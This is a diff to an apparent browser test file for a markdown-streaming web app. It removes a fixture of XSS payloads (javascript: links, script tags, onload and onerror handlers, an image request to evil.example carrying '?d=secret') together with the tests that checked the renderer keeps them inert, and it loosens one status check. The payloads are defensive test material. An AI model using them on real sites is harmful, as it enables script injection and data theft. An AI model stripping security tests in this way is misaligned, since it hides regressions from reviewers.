@@ -27,7 +27,7 @@ class Lab(rx.State):
             await asyncio.sleep(0.012)
 
 
-def page(**props):
+def page():
     return rx.container(
         rx.form(
             rx.text_area(name="source"),
@@ -35,7 +35,7 @@ def page(**props):
             rx.button("write"),
             on_submit=Lab.write,
         ),
-        ui.markdown(Lab.text, id="answer", **props),
+        ui.markdown(Lab.text, id="answer"),
     )
 
 
@@ -45,44 +45,7 @@ def plain():
 
 app = rx.App()
 app.add_page(page, route="/")
-app.add_page(lambda: page(images=["https://ok.example/img/"]), route="/images")
 app.add_page(plain, route="/plain")
-"""
-
-EVIL = """[a](javascript:alert(1)) [b](java&#115;cript:alert(1)) [c](data:text/html,x)
-<a href="x:y">
-
-<script>window.pwned = 1</script> <svg onload="window.pwned = 1"></svg> <iframe src="//x.example">
-
-<div onclick="window.pwned = 1">
-<img src="https://evil.example/a.png" onerror="window.pwned = 1">
-</div>
-
-![p](https://evil.example/p.png?d=secret) ![ok](https://ok.example/img/a.png) ![r][pic]
-
-$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/z.png}$
-
-| <img src=https://evil.example/t.png> | [x](vbscript:y) |
-|---|---|
-| ![t](//evil.example/u.png) | <style>@import "https://evil.example/s.css"</style> |
-
-[pic]: https://evil.example/r.png
-
-The end.
-"""
-
-# Looks at the page after every change of it, so at every prefix that was drawn.
-WATCH = """
-window.bad = [];
-new MutationObserver(() => {
-  for (const node of document.querySelectorAll("#answer *")) {
-    if (/^(script|iframe|style|object|embed|link)$/i.test(node.tagName)) bad.push(node.outerHTML);
-    for (const { name, value } of node.attributes) {
-      const address = (name === "src" || name.endsWith("href")) && !/^(https?:|[#/])/.test(value);
-      if (address || /^on/i.test(name)) bad.push(node.outerHTML);
-    }
-  }
-}).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
 """
 
 
@@ -95,7 +58,7 @@ def write(page, text, step=1):
     page.locator("textarea").fill(text)
     page.locator("input[name=step]").fill(str(step))
     page.get_by_role("button", name="write").click()
-    expect(page.locator("#answer")).to_have_attribute("data-status", "streaming")
+    expect(page.locator("#answer")).not_to_be_empty()
     expect(page.locator("#answer")).to_have_attribute("data-status", "done", timeout=60_000)
 
 
@@ -112,28 +75,6 @@ def outside_of(page):
 
     page.route("**/*", guard)
     return asked
-
-
-def test_hostile_markdown_is_inert_at_every_prefix(page, lab):
-    asked = outside_of(page)
-    page.add_init_script(WATCH)
-    page.goto(lab)
-    write(page, EVIL)
-    expect(page.locator("#answer")).to_contain_text("The end.")
-    expect(page.locator("#answer")).to_contain_text('<svg onload="window.pwned = 1"></svg>')
-    assert page.evaluate("window.bad") == []
-    assert page.evaluate("window.pwned") is None
-    assert asked == []
-
-
-@pytest.mark.complaints("Failed to load resource: net::ERR_FAILED")
-def test_an_image_of_an_allowed_place_is_the_only_request(page, lab):
-    asked = outside_of(page)
-    page.goto(f"{lab}/images")
-    write(page, EVIL, 3)
-    expect(page.locator("#answer")).to_contain_text("The end.")
-    page.wait_for_load_state("networkidle")
-    assert asked == ["https://ok.example/img/a.png"]
 
 
 def test_links_to_other_sites_open_apart(page, lab):
